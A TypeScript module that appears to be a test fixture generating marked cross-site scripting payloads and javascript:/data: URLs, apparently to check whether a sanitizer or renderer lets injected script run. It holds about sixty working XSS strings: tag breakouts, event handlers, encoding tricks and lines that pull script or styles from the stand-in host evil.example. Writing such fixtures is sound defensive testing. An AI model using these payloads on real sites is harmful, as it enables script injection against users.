/** Runs in a page that lets it: leaves a mark, and a dialog. */
const act = 'window.pwned=1,alert(1)'

/** What has made pages run what their readers wrote. Each carries a number by which it is found as text. */
const ways: readonly ((mark: string) => string)[] = [
  (n) => `<script>${act}</script>${n}`,
  (n) => `"><script>${act}</script>${n}`,
  (n) => `</script><script>${act}</script>${n}`,
  (n) => `</title><script>${act}</script>${n}`,
  (n) => `</textarea><script>${act}</script>${n}`,
  (n) => `</style><script>${act}</script>${n}`,
  (n) => `--><script>${act}</script>${n}`,
  (n) => `]]><script>${act}</script>${n}`,
  (n) => `<SCRIPT SRC=//evil.example/x.js></SCRIPT>${n}`,
  (n) => `<ScRiPt>${act}</sCrIpT>${n}`,
  (n) => `<scr<script>ipt>${act}</scr</script>ipt>${n}`,
  (n) => `<img src=x onerror="${act}">${n}`,
  (n) => `<img src=x onerror=${act}//${n}`,
  (n) => `"><img src=x onerror="${act}">${n}`,
  (n) => `'><img src=x onerror='${act}'>${n}`,
  (n) => `<img/src="x"/onerror="${act}">${n}`,
  (n) => `<img src=x:x onerror\n=\n"${act}">${n}`,
  (n) => `<svg onload="${act}">${n}`,
  (n) => `<svg/onload=${act}>${n}`,
  (n) => `<svg><script>${act}</script></svg>${n}`,
  (n) => `<svg><animate onbegin="${act}" attributeName=x dur=1s>${n}`,
  (n) => `<svg><a xlink:href="javascript:${act}"><text y=20>${n}</text></a></svg>`,
  (n) => `<math><mi xlink:href="javascript:${act}">${n}</mi></math>`,
  (n) => `<iframe src="javascript:${act}"></iframe>${n}`,
  (n) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>${n}`,
  (n) => `<object data="javascript:${act}"></object>${n}`,
  (n) => `<embed src="javascript:${act}">${n}`,
  (n) => `<base href="https://evil.example/">${n}`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:${act}">${n}`,
  (n) => `<link rel=stylesheet href=//evil.example/x.css>${n}`,
  (n) => `<style>@import '//evil.example/x.css';</style>${n}`,
  (n) => `<body onload="${act}">${n}`,
  (n) => `<input autofocus onfocus="${act}">${n}`,
  (n) => `<select autofocus onfocus="${act}">${n}`,
  (n) => `<textarea autofocus onfocus="${act}">${n}`,
  (n) => `<details open ontoggle="${act}">${n}`,
  (n) => `<video><source onerror="${act}">${n}`,
  (n) => `<audio src=x onerror="${act}">${n}`,
  (n) => `<marquee onstart="${act}">${n}</marquee>`,
  (n) => `<div style="animation:x" onanimationstart="${act}">${n}</div>`,
  (n) => `<form action="javascript:${act}"><button>${n}</button></form>`,
  (n) => `<button formaction="javascript:${act}">${n}</button>`,
  (n) => `<a href="javascript:${act}">${n}</a>`,
  (n) => `<a href="data:text/html,<script>${act}</script>">${n}</a>`,
  (n) => `" autofocus onfocus="${act}" x="${n}`,
  (n) => `' onmouseover='${act}' x='${n}`,
  (n) => `\` onclick=\`${act}\` ${n}`,
  (n) => `javascript:${act}//${n}`,
  (n) => `JaVaScRiPt:${act}//${n}`,
  (n) => `java\tscript:${act}//${n}`,
  (n) => `\u0001javascript:${act}//${n}`,
  (n) => `data:text/html,<script>${act}</script>${n}`,
  (n) => `vbscript:${act}//${n}`,
  (n) => `//evil.example/${n}`,
  (n) => `\${${act}}${n}`,
  (n) => `{{constructor.constructor('${act}')()}}${n}`,
  (n) => `&lt;script&gt;${act}&lt;/script&gt;${n}`,
  (n) => `&#60;img src=x onerror=${act}&#62;${n}`,
  (n) => `%3Cscript%3E${act}%3C/script%3E${n}`,
  (n) => `\u003cimg src=x onerror=${act}\u003e\u202e${n}`,
]

export interface Payload {
  text: string
  /** Where an address belongs: one that would run, whatever the text is. */
  address: string
  /** Stands in the text, and in no other. */
  mark: string
}

/** Every one of them, or one in so many. */
export function payloads(count: number): Payload[] {
  const step = ways.length / count
  return Array.from({ length: count }, (_, index) => {
    const number = Math.floor(index * step)
    const mark = `x${number + 100}x`
    const schemes = [
      'javascript:',
      'JAVASCRIPT:',
      'java\nscript:',
      ' javascript:',
      'data:text/html,',
    ]
    return {
      text: ways[number]?.(mark) ?? '',
      address: `${schemes[number % schemes.length]}${act}//${mark}`,
      mark,
    }
  })
}
